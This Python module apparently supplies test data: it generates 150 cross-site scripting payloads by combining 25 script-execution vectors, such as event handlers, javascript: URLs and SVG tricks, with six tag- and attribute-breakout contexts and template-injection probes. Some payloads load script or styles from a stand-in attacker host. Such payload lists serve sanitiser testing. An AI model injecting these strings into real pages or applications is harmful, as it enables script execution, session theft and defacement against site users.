"""A hundred and fifty texts that would run as script where a page let them: 25 ways to run, each in six places to break out of."""

from __future__ import annotations

WAYS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>", "<img src=x onerror\t=\talert(1)//", "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href=' &#106;avascript:alert(1)'>x</a>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>", "<style>@import'//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<form action=javascript:alert(1)><button>x</button></form>",
    "<video><source onerror=alert(1)></video>", "<marquee onstart=alert(1)>x</marquee>",
)  # fmt: skip
PLACES = (
    "{}", '">{}', "'>{}", "</textarea></title></option>{}", "[x](javascript:alert(1)) ![x](x \"'onerror=alert(1)\") {}",
    "\u202e\u200b{{{{7*7}}}} ${{7*7}} {}-->",
)  # fmt: skip
PAYLOADS = tuple(place.format(way) for way in WAYS for place in PLACES)
